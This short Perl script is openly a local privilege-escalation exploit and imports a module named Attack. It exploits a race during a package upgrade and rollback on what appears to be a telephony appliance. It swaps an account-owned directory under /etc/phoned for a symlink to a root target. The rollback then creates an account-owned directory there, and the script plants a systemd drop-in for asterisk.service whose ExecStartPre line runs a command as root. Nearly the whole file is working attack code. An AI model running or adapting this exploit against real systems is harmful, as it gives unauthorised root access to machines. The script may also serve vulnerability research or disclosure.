# Swaps a directory of the account for a link to a directory of root, once the packages have changed. A rollback that follows it makes a
# directory of the account there: with drop-ins of a unit, in which the account puts its own.
use strict;
use warnings;
use Attack;

my ($target) = @ARGV;
# A directory that was made on this machine: overlayfs renames no other.
my ($own, $unit) = ('/etc/phoned/own', 'system/asterisk.service.d');
my $drop_in = "[Service]\nExecStartPre=+/bin/touch /root/owned\n";
directory("$own/$unit");
write_file("$own/$unit/phoned.conf", $drop_in);
ready();
wait_for { upgraded() };
rename $own, "$own.old" or die "$own: $!\n";
symlink $target, $own or die "$own: $!\n";
tried();
until (over()) {
    my $made = "$target/$unit";
    eval { write_file("$made/phoned.conf", $drop_in) } if -d $made && -O $made && !-e "$made/phoned.conf";
    pause();
}
